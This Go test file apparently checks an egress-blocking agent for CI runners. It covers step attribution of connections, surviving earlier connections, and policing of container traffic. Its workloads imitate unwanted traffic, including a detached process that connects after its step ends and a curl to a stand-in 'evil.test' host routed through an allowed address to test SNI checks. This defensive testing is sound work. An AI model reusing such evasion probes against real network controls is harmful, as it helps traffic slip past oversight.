// bash as Runner.Worker, started by a copy as Runner.Listener beside it:
// package fakerunner), which starts `run` and then each step as its
// child, as the runner does: two `run:` steps (scripts in _temp named by a GUID)
// and a JavaScript-like action under _actions. Without the jobs API the
// report names each event's step as the runner would ("Run " and the
// script's first line, "Run owner/repo@ref"); a process that outlived
// its step (re-parented) gets none.
func TestRunNamesWorkflowSteps(t *testing.T) {
	w := newWorld(t)
	files := map[string]string{
		"work/_temp/0f3c2a4e-1b2d-4c5e-8f90-a1b2c3d4e5f6.sh": "\n  curl -sk --max-time 5 https://allowed.test/\n",
		"work/_temp/7a1e9c3b-2d4f-4e6a-9b8c-0d1e2f3a4b5c.sh": "getent hosts blocked.test; true\nexit 0\n",
		"work/_actions/octo/greet/v1/action.yml":             "runs:\n  using: node20\n  main: dist/index.sh\n",
		"work/_actions/octo/greet/v1/dist/index.sh":          "curl -sk --max-time 5 https://198.18.1.11/\n",
	}
	for name, body := range files {
		p := filepath.Join(w.tmp, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	// The runner, there first; run is one of its commands, and the steps
	// are its direct children while the agent runs (as the Action's agent
	// and the runner's steps are).
	if err := os.Chmod(w.tmp, 0o755); err != nil {
		t.Fatal(err)
	}
	r := fakerunner.Start(t, filepath.Join(w.tmp, "runners/2.321.0"), func(argv ...string) *exec.Cmd { return w.In(w.Runner, argv...) })
	temp, actions := filepath.Join(w.tmp, "work/_temp"), filepath.Join(w.tmp, "work/_actions")
	dir := filepath.Join(w.tmp, "steps-report")
	ready, done, exit := filepath.Join(w.tmp, "ready"), filepath.Join(w.tmp, "done"), filepath.Join(w.tmp, "exit")
	runCmd := []string{w.bin, "run", "--upstream", "198.18.0.2", "--report-dir", dir, "--disable-file-monitoring",
		"--egress-policy", "block", "--allowed-endpoints", allowFlags, "--",
		"sh", "-c", "touch " + ready + "; while [ ! -e " + done + " ]; do sleep 0.05; done"}
	quoted := make([]string, len(runCmd))
	for i, a := range runCmd {
		quoted[i] = "'" + strings.ReplaceAll(a, "'", `'\''`) + "'"
	}
	// A lookalike started before run (a copy of the runner's pair, as a
	// step could leave behind): run must pin the runner up its own
	// ancestry, not by scanning /proc, which finds two. (The flake this
	// test had: its run was started by a shell that exited at once, so
	// run's ancestry had lost the runner and the scan found another
	// test's lookalike now and then: every step label empty.)
	fakerunner.Start(t, filepath.Join(w.tmp, "lookalike"), func(argv ...string) *exec.Cmd { return w.In(w.Runner, argv...) })
	// The exit status appears at once, whole (read as soon as the file is there).
	if err := r.Go(strings.Join(quoted, " ") + " > " + dir + ".log 2>&1; echo $? > " + exit + ".tmp; mv " + exit + ".tmp " + exit); err != nil {
		t.Fatalf("start run: %v", err)
	}
	waitFile := func(p string) {
		t.Helper()
		for deadline := time.Now().Add(60 * time.Second); ; time.Sleep(20 * time.Millisecond) {
			if _, err := os.Stat(p); err == nil {
				return
			}
			if time.Now().After(deadline) {
				log, _ := os.ReadFile(dir + ".log")
				t.Fatalf("%s never appeared; run's log:\n%s", p, log)
			}
		}
	}
	waitFile(ready)
	nobody := []string{"setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--"}
	for _, step := range [][]string{
		// Step 1 also leaves a process behind that connects after the step.
		{"bash", "-c", "bash -e " + temp + "/0f3c2a4e-1b2d-4c5e-8f90-a1b2c3d4e5f6.sh ; setsid sh -c 'sleep 1; curl -sk --max-time 5 https://api.wild.test/' > /dev/null 2>&1 &"},
		{"bash", "-e", temp + "/7a1e9c3b-2d4f-4e6a-9b8c-0d1e2f3a4b5c.sh"},
		{"sh", actions + "/octo/greet/v1/dist/index.sh"},
		{"sleep", "3"},
	} {
		out, err := r.Exec(append(nobody, step...)...)
		t.Logf("step %q: %v %s", step, err, out)
	}
	if err := os.WriteFile(done, nil, 0o644); err != nil {
		t.Fatal(err)
	}
	waitFile(exit)
	if code, _ := os.ReadFile(exit); strings.TrimSpace(string(code)) != "0" {
		log, _ := os.ReadFile(dir + ".log")
		t.Fatalf("run exited %s:\n%s", code, log)
	}
	rep := readReport(t, dir)
	want := map[string]string{
		"allowed.test": "Run curl -sk --max-time 5 https://allowed.test/",
		"blocked.test": "Run getent hosts blocked.test; true",
		// Step 1's leftover, which asks after step 1 ended: the kernel's
		// process table keeps who made it, so it is step 1's (with /proc
		// alone it is re-parented and belongs to no step).
		"api.wild.test": "Run curl -sk --max-time 5 https://allowed.test/",
	}
	for _, d := range rep.DNS {
		if step, ok := want[d.Name]; ok {
			if d.Step != step {
				t.Errorf("dns %s: step %q, want %q", d.Name, d.Step, step)
			}
			delete(want, d.Name)
		}
	}
	for name := range want {
		t.Errorf("no DNS row for %s: %+v", name, rep.DNS)
	}
	found := false
	for _, e := range rep.Egress {
		switch e.IP {
		case "198.18.1.11":
			found = true
			if e.Step != "Run octo/greet@v1" || e.Verdict != "blocked" {
				t.Errorf("egress %s: %s, step %q, want blocked in Run octo/greet@v1", e.IP, e.Verdict, e.Step)
			}
		case "198.18.1.10", "2001:db8:1::a":
			if e.Step != "Run curl -sk --max-time 5 https://allowed.test/" {
				t.Errorf("egress %s: step %q (row %+v)", e.IP, e.Step, e)
			}
		case "198.18.1.12":
			if e.Step != "Run curl -sk --max-time 5 https://allowed.test/" {
				t.Errorf("egress %s of step 1's re-parented leftover: step %q, want step 1's", e.IP, e.Step)
			}
		}
	}
	if !found {
		t.Errorf("no egress row for 198.18.1.11: %+v", rep.Egress)
	}
}

// TestRunKeepsEarlierConnections: a connection opened before the agent
// started keeps working in block mode even though its destination is not
// allowed (established traffic passes), while a new one to it is refused.
func TestRunKeepsEarlierConnections(t *testing.T) {
	w := newWorld(t)
	dir := filepath.Join(w.tmp, "hold")
	if err := os.MkdirAll(dir, 0o777); err != nil {
		t.Fatal(err)
	}
	client := w.In(w.Runner, "env", "HR_GOCLIENT=hold", w.self, "198.18.1.11:7777", dir)
	var out strings.Builder
	client.Stdout, client.Stderr = &out, &out
	if err := client.Start(); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(10 * time.Second)
	for {
		if _, err := os.Stat(filepath.Join(dir, "ready")); err == nil {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("client never connected: %s", out.String())
		}
		time.Sleep(20 * time.Millisecond)
	}
	cmd := fmt.Sprintf("touch %s/go; sleep 1; curl -sk --max-time 3 https://198.18.1.11/ && exit 9; exit 0", dir)
	if b, err := w.In(w.Runner, w.bin, "run", "--egress-policy", "block", "--upstream", "198.18.0.2",
		"--report-dir", filepath.Join(w.tmp, "hold-report"), "--disable-file-monitoring", "--", "sh", "-c", cmd).CombinedOutput(); err != nil {
		t.Fatalf("run: %v (a new connection to the host must be refused)\n%s", err, b)
	}
	if err := client.Wait(); err != nil {
		t.Fatalf("earlier connection broke under the agent: %v %s", err, out.String())
	}
	var after bool
	for _, h := range w.HitsTo("tcp", testnet.Host4(11), 7777) {
		after = after || h.Detail == "after"
	}
	if !after {
		t.Error("the server never got the line sent while the agent enforced")
	}
}

// TestRunPolicesContainers: a "container" namespace behind a bridge named
// docker0 in the runner namespace (as docker sets it up, on test addresses)
// gets the same policy: its DNS, whatever server it asks, is answered by
// our resolver, an allowed name connects, a blocked address is refused at
// once, and the report has the forwarded flows.
func TestRunPolicesContainers(t *testing.T) {
	w := newWorld(t)
	ctr := w.Runner + "c"
	run := func(args ...string) {
		t.Helper()
		if out, err := exec.Command(args[0], args[1:]...).CombinedOutput(); err != nil {
			t.Fatalf("%v: %v\n%s", args, err, out)
		}
	}
	run("ip", "netns", "add", ctr)
	t.Cleanup(func() {
		_ = exec.Command("ip", "netns", "del", ctr).Run()
		_ = os.RemoveAll(filepath.Join("/etc/netns", ctr))
	})
	run("ip", "-n", w.Runner, "link", "add", "docker0", "type", "bridge")
	run("ip", "-n", w.Runner, "addr", "add", "198.19.0.1/24", "dev", "docker0")
	run("ip", "-n", w.Runner, "link", "set", "docker0", "up")
	run("ip", "-n", w.Runner, "link", "add", "vethc", "type", "veth", "peer", "name", "eth0", "netns", ctr)
	run("ip", "-n", w.Runner, "link", "set", "vethc", "master", "docker0", "up")
	run("ip", "-n", ctr, "link", "set", "lo", "up")
	run("ip", "-n", ctr, "addr", "add", "198.19.0.2/24", "dev", "eth0")
	run("ip", "-n", ctr, "link", "set", "eth0", "up")
	run("ip", "-n", ctr, "route", "add", "default", "via", "198.19.0.1")
	run("ip", "netns", "exec", w.Runner, "sysctl", "-qw", "net.ipv4.ip_forward=1")
	masq := exec.Command("ip", "netns", "exec", w.Runner, "nft", "-f", "-")
	masq.Stdin = strings.NewReader("table ip testnat {\n chain post {\n  type nat hook postrouting priority srcnat;\n  oifname \"eth0\" ip saddr 198.19.0.0/24 masquerade\n }\n}\n")
	if out, err := masq.CombinedOutput(); err != nil {
		t.Fatalf("masquerade: %v %s", err, out)
	}
	if err := os.MkdirAll(filepath.Join("/etc/netns", ctr), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join("/etc/netns", ctr, "resolv.conf"), []byte("nameserver 198.18.0.2\noptions timeout:2 attempts:1\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	// Before the agent: the container reaches the internet (the topology works).
	run("ip", "netns", "exec", ctr, "curl", "-sk", "--max-time", "5", "-o", "/dev/null", "https://198.18.1.12/")

	in := "ip netns exec " + ctr + " "
	wl := workload{
		{"ctr-allowed", in + "curl -sk --max-time 5 https://allowed.test/"},
		{"ctr-blocked-name", in + "getent hosts blocked.test"},
		{"ctr-direct-ip", in + "curl -sk --max-time 5 https://198.18.1.11/"},
		{"ctr-dns-other-server", in + "dig +time=2 +tries=1 @198.18.1.53 allowed.test | grep -q 198.18.1.10"},
		// Another name on allowed.test's address: the relay checks containers' SNI too.
		{"ctr-shared-address", in + "curl -sk --max-time 5 --resolve evil.test:443:198.18.1.10 https://evil.test/"},
	}
	script, results := w.script(wl)
	dir := filepath.Join(w.tmp, "ctr-report")
	start := time.Now()
	out, err := w.agent(w.bin, "run", "--egress-policy", "block", "--allowed-endpoints", "allowed.test:443",
		"--upstream", "198.18.0.2", "--report-dir", dir, "--disable-file-monitoring", "--", "/bin/sh", script).CombinedOutput()
	if err != nil {
		t.Fatalf("run: %v\n%s", err, out)
	}
	w.checkEBPF(t, dir)
	b, _ := os.ReadFile(results)
	status := map[string]string{}
	for _, line := range strings.Split(strings.TrimSpace(string(b)), "\n") {
		if name, code, ok := strings.Cut(line, " "); ok {
			status[name] = code
		}
	}
	for name, want := range map[string]bool{"ctr-allowed": true, "ctr-blocked-name": false, "ctr-direct-ip": false, "ctr-dns-other-server": true, "ctr-shared-address": false} {
		if (status[name] == "0") != want {
			t.Errorf("%s: exit %s, want success=%v", name, status[name], want)
		}
	}
	if time.Since(start) > 20*time.Second {
		t.Errorf("the container workload took %v: blocked traffic should fail fast", time.Since(start))
	}
	if len(w.HitsTo("tcp", testnet.Host4(11), 443)) != 0 || len(w.HitsTo("udp", testnet.Host4(53), 53)) != 0 || len(w.HitsTo("tcp", testnet.Host4(10), 443)) == 0 {
		t.Errorf("what reached the internet is wrong: %+v", w.Hits())
	}
	for _, h := range w.Hits() {
		if strings.Contains(h.Detail, "evil.test") {
			t.Errorf("the container's evil.test reached the server: %+v", h)
		}
	}
	if w.DNSAsked("blocked.test") {
		t.Error("the container's blocked name reached the upstream DNS server")
	}
	rep := readReport(t, dir)
	var fwdBlocked bool
	for _, e := range rep.Egress {
		fwdBlocked = fwdBlocked || e.IP == "198.18.1.11" && e.Verdict == "blocked"
	}
	if !fwdBlocked {
		t.Errorf("report lacks the container's blocked flow: %+v", rep.Egress)
	}
	// The container's flows name its process, found in its own network
	// namespace: the blocked one (gate) and the allowed one (flow log).
	assertFlow(t, rep, "198.18.1.11", 443, "blocked", "curl")
	// The allowed one and the one the relay refused share an address: each
	// has its own row, with its name and the container's process.
	for _, want := range []struct{ domain, verdict string }{{"allowed.test", "allowed"}, {"evil.test", "blocked"}} {
		found := false
		for _, e := range rep.Egress {
			found = found || e.IP == "198.18.1.10" && e.Port == 443 && e.Domain == want.domain && e.Verdict == want.verdict &&
				filepath.Base(e.Process.Exe) == "curl"
		}
		if !found {
			t.Errorf("report: no %s flow to %s by the container's curl: %+v", want.verdict, want.domain, rep.Egress)
		}
	}
	// And its DNS queries, redirected to the resolver, name theirs too.
	assertDNS(t, rep, "blocked.test", "blocked", "getent")
}
